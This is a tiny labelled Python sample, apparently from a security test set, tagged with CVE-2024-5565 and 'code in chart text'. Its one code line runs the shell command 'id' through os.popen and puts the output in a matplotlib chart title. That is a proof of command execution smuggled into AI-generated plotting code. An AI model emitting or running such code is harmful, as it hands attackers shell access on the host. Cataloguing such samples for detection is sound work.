# class: lineage
# mechanism: CVE-2024-5565: code in chart text
# reaches: os
import matplotlib.pyplot as plt
plt.title(__import__("os").popen("id").read())
